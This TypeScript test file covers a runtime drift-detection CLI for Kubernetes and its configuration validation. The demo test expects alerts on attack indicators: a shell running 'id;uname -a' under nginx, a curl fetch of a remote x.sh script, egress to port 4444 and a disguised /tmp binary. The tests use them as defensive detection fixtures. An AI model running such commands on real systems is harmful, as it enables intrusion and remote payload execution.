import test from 'ava';
import { execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { CLI } from '../helpers/processes.js';

const run = promisify(execFile);

async function cli(args: string[], env: Record<string, string> = {}): Promise<{ code: number; stdout: string; stderr: string }> {
  try {
    const { stdout, stderr } = await run(process.execPath, [CLI, ...args], { env: { ...process.env, ...env }, timeout: 60_000 });
    return { code: 0, stdout, stderr };
  } catch (err) {
    const e = err as { code: number; stdout: string; stderr: string };
    return { code: e.code, stdout: e.stdout, stderr: e.stderr };
  }
}

test('the demo shows what was learned and caught, and finishes on its own', async (t) => {
  const started = Date.now();
  const r = await cli(['demo']);
  t.is(r.code, 0, r.stderr);
  t.true(Date.now() - started < 60_000);
  t.regex(r.stdout, /What it learned — 6 baselines/);
  t.regex(r.stdout, /What it caught — 10 alerts from 15 deviations/);
  for (const caught of ['/usr/bin/dash -c id;uname -a', '/usr/bin/curl -s http://203.0.113.50/x.sh', 'egress tcp 203.0.113.50:80', '/tmp/.cache/kworkerd', 'egress tcp 198.51.100.23:4444', 'listen tcp any:16379']) {
    t.true(r.stdout.includes(caught), `the demo shows ${caught}`);
  }
  t.regex(r.stdout, /why: \/usr\/bin\/dash ran before, but never as a child of nginx/);
  t.regex(r.stdout, /API: {2}http:\/\/127\.0\.0\.1:\d+\/api\/v1\/alerts/);
  t.true(r.stdout.split('\n').length < 45, 'fits a screen');
});

const badConfigs: [string, string[], Record<string, string>, RegExp][] = [
  ['an unknown source', ['agent', '--source', 'kafka:x', '--collector', '127.0.0.1:1', '--state-dir', '/tmp/x', '--node', 'n1'], {}, /sources: unknown source "kafka".*one of: falco-file, falco-http, stdin/],
  ['a bad duration', ['agent', '--source', 'stdin', '--collector', '127.0.0.1:1', '--state-dir', '/tmp/x', '--node', 'n1', '--learning-window', 'soon'], {}, /learningWindow: not a duration: "soon"/],
  ['a bad key mode', ['agent', '--source', 'stdin', '--collector', '127.0.0.1:1', '--state-dir', '/tmp/x', '--node', 'n1', '--baseline-key', 'name'], {}, /baselineKey: must be one of: repository, tag, digest/],
  ['a bad collector address', ['agent', '--source', 'stdin', '--collector', 'nowhere', '--state-dir', '/tmp/x', '--node', 'n1'], {}, /collector: not HOST:PORT: "nowhere"/],
  ['a bad node name', ['agent', '--source', 'stdin', '--collector', '127.0.0.1:1', '--state-dir', '/tmp/x', '--node', 'Node_1'], {}, /node: must be a Kubernetes node name/],
  ['a bad value from the environment', ['collector', '--db', '/tmp/x.db'], { DRIFTWATCH_GRPC_LISTEN: 'x:99999' }, /grpcListen: not HOST:PORT/],
  ['an unknown flag', ['collector', '--db', '/tmp/x.db', '--colour', 'red'], {}, /Unknown option '--colour'/],
  ['a missing required setting', ['collector'], {}, /db: /],
];
for (const [what, args, env, message] of badConfigs) {
  test(`bad configuration stops startup naming the setting: ${what}`, async (t) => {
    const r = await cli(args, env);
    t.is(r.code, 2);
    t.regex(r.stderr, message);
  });
}

test('DRIFTWATCH_* variables that are not settings (Kubernetes service links) are ignored', async (t) => {
  // Kubernetes injects these for a Service named "driftwatch"; they must not stop the collector.
  const env = { DRIFTWATCH_SERVICE_HOST: '10.96.0.12', DRIFTWATCH_SERVICE_PORT: '7070', DRIFTWATCH_PORT: 'tcp://10.96.0.12:7070', DRIFTWATCH_PORT_7070_TCP_PROTO: 'tcp' };
  const r = await cli(['collector', '--db', '/tmp/x.db', '--grpc-listen', '127.0.0.1:0', '--http-listen', 'nowhere'], env);
  // It gets past the environment and fails on the bad flag instead.
  t.is(r.code, 2);
  t.regex(r.stderr, /httpListen: not HOST:PORT: "nowhere"/);
});
